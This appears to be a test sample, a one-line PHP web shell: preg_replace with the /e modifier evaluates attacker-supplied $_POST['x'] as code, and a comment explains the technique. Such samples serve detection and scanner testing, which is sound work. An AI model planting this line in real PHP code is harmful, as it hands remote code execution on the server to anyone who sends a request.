<?php
// Test sample: the /e modifier makes preg_replace evaluate the replacement
// (PHP < 7); the replacement is attacker-controlled.
@preg_replace('/.*/e', $_POST['x'], '');
